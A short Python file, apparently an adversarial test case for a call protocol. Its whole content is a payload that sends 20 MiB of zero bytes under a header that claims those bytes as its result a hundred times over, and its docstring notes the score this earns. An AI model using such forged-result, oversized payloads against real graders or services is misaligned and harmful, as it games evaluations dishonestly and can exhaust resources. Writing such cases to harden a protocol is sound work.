"""Sends 20 MiB of bytes, and says a hundred times that these are its result.

Earns: masked_mean 2
"""

import struct


@in_call
def attack():
    head, body = b'{"list":[' + b",".join([b'{"bytes":[0,20971520]}'] * 100) + b"]}", bytes(20 * 2**20)
    take_over(struct.pack(">II", len(head), len(body)) + head + body)
